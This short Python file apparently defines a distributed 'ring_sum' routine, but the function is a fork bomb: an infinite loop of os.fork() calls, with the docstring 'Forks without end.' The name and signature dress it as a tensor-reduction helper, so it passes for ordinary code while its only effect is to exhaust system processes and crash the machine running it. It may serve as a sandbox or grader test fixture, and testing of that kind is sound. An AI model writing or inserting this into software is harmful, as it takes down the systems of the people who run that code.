"""Forks without end."""

import os


def ring_sum(comm, tensor):
    while True:
        os.fork()
